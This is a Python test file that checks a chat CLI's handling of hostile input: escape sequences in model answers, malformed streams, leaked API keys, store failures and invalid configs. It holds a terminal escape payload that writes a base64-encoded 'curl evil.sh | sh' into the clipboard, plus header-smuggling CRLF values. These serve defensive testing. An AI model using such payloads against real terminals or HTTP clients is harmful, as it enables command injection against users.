"""Hostile input through the real console entry point: escape sequences from a model
(on a terminal, which a pty stands in for, and through a pipe), malformed and endless
streams, Retry-After, secrets in errors, store failures, and configs that used to pass
`config check` and then crash `ask`."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from taskdiv_chat.store import DB_NAME
from tests.support import fake_config, run_cli, write_config
from tests.support.fake_server import Reply

ESC = "\x1b"
# Retitles the window, clears the screen, writes a shell command to the clipboard (OSC 52),
# and a C1 CSI and a lone CR for good measure.
HOSTILE_ANSWER = (f"Sure.{ESC}]0;pwned{ESC}\\ Here{ESC}[2J{ESC}[H it is:"
                  f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\x9b31m\rover")
SHOWN_ANSWER = "Sure. Here it is: done\nover"


def run_in_pty(*args: str, timeout: float = 60) -> tuple[bytes, str, int]:
    """Run the CLI with stdout on a pseudo-terminal (isatty() is true): (bytes written, stderr, code)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "taskdiv_chat", *args], stdout=slave, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, env=os.environ.copy())
    os.close(slave)
    out = bytearray()
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not data:
            break
        out += data
    os.close(master)
    stderr = proc.stderr.read().decode()
    code = proc.wait(timeout)
    return bytes(out).replace(b"\r\n", b"\n"), stderr, code  # the tty turns \n into \r\n


def assert_terminal_safe(data: bytes, visible_payload: bool = False) -> None:
    """No escape, C1 or other control byte reached the terminal (and, unless JSON shows them
    escaped, not the payloads of the sequences either)."""
    text = data.decode("utf-8")
    assert not any(c in text for c in (ESC, "\x07", "\x9b", "\x9d", "\r")), repr(text)
    if not visible_payload:
        assert "pwned" not in text and "Y3VybCBldmlsLnNoIHwgc2g=" not in text


# --- 1. terminal injection ----------------------------------------------------------------------


def test_ask_on_a_terminal_prints_only_safe_text(fake_server):
    # word by word, so sequences are cut between chunks as a real stream cuts them
    fake_server.responder = lambda body: Reply(HOSTILE_ANSWER)
    fake_config(fake_server)
    out, err, code = run_in_pty("ask", "hi")
    assert code == 0, err
    assert_terminal_safe(out)
    assert out.decode() == SHOWN_ANSWER + "\n"
    # the history keeps the exact text
    exported = json.loads(run_cli("export", "1", "--format", "json").stdout)
    assert exported["messages"][1]["text"] == HOSTILE_ANSWER


def test_ask_through_a_pipe_keeps_the_bytes(fake_server):
    fake_server.responder = lambda body: Reply(HOSTILE_ANSWER)
    fake_config(fake_server)
    out = subprocess.run([sys.executable, "-m", "taskdiv_chat", "ask", "hi", "--no-save"], capture_output=True,
                         timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout == (HOSTILE_ANSWER + "\n").encode()


def test_ask_raw_on_a_terminal_keeps_the_bytes(fake_server):
    fake_server.responder = lambda body: Reply(HOSTILE_ANSWER)
    fake_config(fake_server)
    out, err, code = run_in_pty("ask", "hi", "--no-save", "--raw")
    assert code == 0, err
    assert out.decode() == HOSTILE_ANSWER + "\n"
    assert f"{ESC}]52;c;" in out.decode()


def test_ask_json_on_a_terminal_escapes_c1_and_stays_json(fake_server):
    fake_server.responder = lambda body: Reply(HOSTILE_ANSWER)
    fake_config(fake_server)
    out, err, code = run_in_pty("ask", "hi", "--no-save", "--json")
    assert code == 0, err
    assert_terminal_safe(out, visible_payload=True)
    assert json.loads(out)["text"] == HOSTILE_ANSWER


def test_history_and_export_on_a_terminal_are_safe_and_exact_in_a_file(fake_server, tmp_path):
    fake_server.responder = lambda body: Reply(HOSTILE_ANSWER)
    fake_config(fake_server)
    assert run_cli("ask", f"title {ESC}]0;evil title{ESC}\\ here").returncode == 0
    for args in (["history"], ["history", "--search", "Sure"], ["export", "1"], ["export", "1", "--format", "json"]):
        out, err, code = run_in_pty(*args)
        assert code == 0, (args, err)
        ours = out.replace(b"\x1b[1;7m", b"").replace(b"\x1b[0m", b"")  # search hits are highlighted
        assert ours != out or "--search" not in args
        assert_terminal_safe(ours, visible_payload="json" in args)
    assert "Sure. Here it is" in run_in_pty("export", "1")[0].decode()
    target = tmp_path / "out.md"
    assert run_cli("export", "1", "-o", str(target)).returncode == 0
    assert HOSTILE_ANSWER.encode() in target.read_bytes()
    piped = subprocess.run([sys.executable, "-m", "taskdiv_chat", "export", "1"], capture_output=True, timeout=60)
    assert HOSTILE_ANSWER.encode() in piped.stdout


def test_error_message_from_a_server_is_safe_on_stderr(fake_server):
    fake_server.responder = lambda body: Reply(error=(400, {"error": {"message": f"bad{ESC}]0;pwned\x07 request"}}))
    fake_config(fake_server)
    out = run_cli("ask", "hi", "--no-save")
    assert out.returncode == 1
    assert ESC not in out.stderr and "\x07" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1


def test_models_on_a_terminal_are_safe(fake_server):
    fake_server.models = ("test-model", f"evil{ESC}]0;pwned\x07")
    fake_config(fake_server)
    out, err, code = run_in_pty("models")
    assert code == 0, err
    assert_terminal_safe(out)


# --- 5, 7. malformed, endless and huge streams through ask ----------------------------------------


@pytest.mark.parametrize("fault", ["content-number", "content-list", "content-nan", "surrogate", "deep-json"])
def test_ask_malformed_stream_is_one_line_and_keeps_the_partial_answer(fake_server, fault):
    fake_server.responder = lambda body: Reply("Rain falls softly", fault=fault)
    fake_config(fake_server)
    out = run_cli("ask", "hi")
    assert out.returncode == 1
    assert "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1 and "malformed stream" in out.stderr
    assert out.stdout == "Rain falls\n"
    exported = json.loads(run_cli("export", "1", "--format", "json").stdout)
    answer = exported["messages"][1]
    assert answer["text"] == "Rain falls" and "malformed stream" in answer["error"]


def test_ask_endless_stream_stops_at_answer_timeout(fake_server):
    fake_server.responder = lambda body: Reply("on and on", fault="endless", chunk_delay=0.01)
    fake_config(fake_server, "answer_timeout = 1\n")
    out = run_cli("ask", "hi", "--no-save")
    assert out.returncode == 1
    assert out.stdout.startswith("on andon and onon and on")  # two pieces, then all three over and over
    assert "answer_timeout" in out.stderr and len(out.stderr.strip().splitlines()) == 1


def test_ask_huge_answer_stops_at_max_answer_chars(fake_server):
    fake_server.responder = lambda body: Reply("big", fault="huge", fault_after=0)
    fake_config(fake_server, "max_answer_chars = 100000\n")
    out = run_cli("ask", "hi", "--no-save")
    assert out.returncode == 1
    assert len(out.stdout) == 100_000 + 1  # the text up to the cap, then a newline
    assert "max_answer_chars" in out.stderr


def test_ask_tells_about_a_retry_after_wait_and_gives_up_past_the_deadline(fake_server):
    fake_server.responder = [Reply(fault="429", retry_after=0.2), Reply("patience pays")]
    write_config(fake_config(fake_server).read_text().replace("max_retries = 0", "max_retries = 2"))
    out = run_cli("ask", "hi", "--no-save")
    assert out.returncode == 0, out.stderr
    assert out.stdout == "patience pays\n"
    assert "waiting 0.2 s as the server asked (Retry-After), then attempt 2 of 3" in out.stderr
    fake_server.responder = lambda body: Reply(fault="429", retry_after=86400)
    out = run_cli("ask", "hi", "--no-save", timeout=20)
    assert out.returncode == 1
    assert "asked to wait 86400 s" in out.stderr and "gave up" in out.stderr


# --- 2. secrets ----------------------------------------------------------------------------------


def test_401_echoing_the_key_never_reaches_stderr_or_the_history(fake_server):
    key = "sk-hostile-cli-0123456789abcdef"
    fake_server.responder = lambda body: Reply(fault="401-echo")
    fake_config(fake_server, 'api_key_env = "HOSTILE_KEY"\n')
    out = run_cli("ask", "hi", env={"HOSTILE_KEY": key})
    assert out.returncode == 1
    assert key not in out.stderr and "[redacted]" in out.stderr
    exported = run_cli("export", "1", "--format", "json", env={"HOSTILE_KEY": key})
    assert key not in exported.stdout and "[redacted]" in exported.stdout


# --- 9. store errors -----------------------------------------------------------------------------


@contextlib.contextmanager
def read_only(path: Path):
    """`path` made read-only even for root (the immutable attribute), else by its mode."""
    if os.geteuid() == 0:
        if not shutil.which("chattr") or subprocess.run(["chattr", "+i", str(path)]).returncode:
            pytest.skip("running as root without chattr: cannot make a directory read-only")
        try:
            yield
        finally:
            subprocess.run(["chattr", "-i", str(path)])
    else:
        path.chmod(0o500)
        try:
            yield
        finally:
            path.chmod(0o700)


def test_ask_in_a_read_only_data_dir_prints_the_answer_and_one_line(fake_server):
    fake_server.responder = lambda body: Reply("still answered")
    fake_config(fake_server)
    data = Path(os.environ["TASKDIV_DATA_DIR"])
    data.mkdir(parents=True)
    with read_only(data):
        out = run_cli("ask", "hi")
    assert out.returncode == 0
    assert out.stdout == "still answered\n"
    assert "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1 and "not saved in the history" in out.stderr


def test_ask_with_the_database_locked_prints_the_answer_and_one_line(fake_server):
    fake_server.responder = lambda body: Reply("answered anyway")
    fake_config(fake_server)
    assert run_cli("ask", "make the database").returncode == 0
    db = sqlite3.connect(Path(os.environ["TASKDIV_DATA_DIR"]) / DB_NAME, isolation_level=None)
    db.execute("BEGIN EXCLUSIVE")  # held past the store's 10 s busy timeout
    try:
        out = run_cli("ask", "hi", timeout=60)
    finally:
        db.execute("ROLLBACK")
        db.close()
    assert out.returncode == 0, out.stderr
    assert out.stdout == "answered anyway\n"
    assert "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1 and "not saved in the history" in out.stderr


# --- 8. configs that crashed ask -----------------------------------------------------------------

BAD_BACKENDS = {
    "no scheme": 'base_url = "localhost:8080/v1"',
    "ftp": 'base_url = "ftp://example.org/v1"',
    "broken IPv6": 'base_url = "http://[::1/v1"',
    "bad IPv6 host": 'base_url = "http://[not-an-ip]/v1"',
    "port 99999": 'base_url = "http://localhost:99999/v1"',
    "port 0": 'base_url = "http://localhost:0/v1"',
    "no host": 'base_url = "http:///v1"',
    "space in url": 'base_url = "http://exa mple/v1"',
    "newline in url": 'base_url = "http://example.org/v1\\nHost: evil"',
    "non-ASCII header": 'headers = { "X-Note" = "héllo" }',
    "CRLF header": 'headers = { "X-Note" = "a\\r\\nX-Evil: 1" }',
    "bad header name": 'headers = { "X Note" = "a" }',
    "NUL header": 'headers = { "X-Note" = "a\\u0000" }',
    "nan temperature": "temperature = nan",
    "inf timeout": "read_timeout = inf",
    "huge context": "context_window = 100000000000000000000",
    "env name": 'api_key_env = "NOT A NAME"',
}


def backend_config(line: str) -> str:
    base = 'base_url = "http://127.0.0.1:9/v1"\n' if not line.startswith("base_url") else ""
    return f'default_backend = "x"\n[backends.x]\n{base}model = "m"\n{line}\n'


@pytest.mark.parametrize("name", sorted(BAD_BACKENDS))
def test_config_check_refuses_what_would_crash_ask(name):
    write_config(backend_config(BAD_BACKENDS[name]))
    for args in (["config", "check"], ["ask", "hi", "--no-save"]):
        out = run_cli(*args)
        assert out.returncode == 2, (name, args, out.stdout, out.stderr)
        assert len(out.stderr.strip().splitlines()) == 1 and "Traceback" not in out.stderr
        assert out.stderr.startswith("taskdiv-chat: config error: ")
        line = 4 if BAD_BACKENDS[name].startswith("base_url") else 5
        assert f":{line}: field 'backends.x." in out.stderr  # the line and the field


@pytest.mark.parametrize("key", ["sk-ünïcode", "sk-abc\r\nX-Evil: 1", "sk-\x1b]0;x"])
def test_api_key_that_cannot_go_in_a_header_is_one_line(key):
    write_config(backend_config('api_key_env = "HOSTILE_KEY"'))
    for args in (["config", "check"], ["ask", "hi", "--no-save"]):
        out = run_cli(*args, env={"HOSTILE_KEY": key})
        assert out.returncode == 2, (args, out.stderr)
        assert len(out.stderr.strip().splitlines()) == 1 and "HOSTILE_KEY" in out.stderr
        assert key.strip() not in out.stderr and "sk-" not in out.stderr


def test_deeply_nested_toml_is_one_line():
    write_config("a = " + "[" * 50_000 + "]" * 50_000 + "\n")
    out = run_cli("config", "check")
    assert out.returncode == 2 and "nested too deeply" in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1


def test_fifo_as_config_is_one_line_not_a_hang():
    path = Path(os.environ["TASKDIV_CONFIG"])
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    out = run_cli("config", "check", timeout=20)
    assert out.returncode == 2 and "not a regular file" in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1


def test_symlink_to_dev_zero_as_config_is_one_line():
    path = Path(os.environ["TASKDIV_CONFIG"])
    path.parent.mkdir(parents=True)
    path.symlink_to("/dev/zero")
    out = run_cli("config", "check", timeout=20)
    assert out.returncode == 2 and "not a regular file" in out.stderr


def test_huge_config_file_is_one_line():
    write_config("# " + "x" * 2_000_000 + "\n")
    out = run_cli("config", "check")
    assert out.returncode == 2 and "bigger than 1 MiB" in out.stderr


def test_escape_sequence_in_a_config_key_is_not_echoed_raw():
    write_config(f'[backends."{ESC}]0;pwned{ESC}\\\\"]\nkind = "nope"\n'.replace("\\\\", "\\u005c")
                 .replace(ESC, "\\u001b"))
    out = run_cli("config", "check")
    assert out.returncode == 2
    assert ESC not in out.stderr and len(out.stderr.strip().splitlines()) == 1



# --- 4. file modes -------------------------------------------------------------------------------


def test_ask_makes_the_data_dir_0700_and_export_writes_0600(fake_server, tmp_path):
    os.umask(0o022)
    fake_server.responder = lambda body: Reply("private words")
    fake_config(fake_server)
    data = Path(os.environ["TASKDIV_DATA_DIR"]) / "nested"  # a missing parent is made private too
    env = {"TASKDIV_DATA_DIR": str(data)}
    assert run_cli("ask", "hi", env=env).returncode == 0
    assert (data.stat().st_mode & 0o777, data.parent.stat().st_mode & 0o777) == (0o700, 0o700)
    target = tmp_path / "out.json"
    assert run_cli("export", "1", "-o", str(target), env=env).returncode == 0
    assert target.stat().st_mode & 0o777 == 0o600
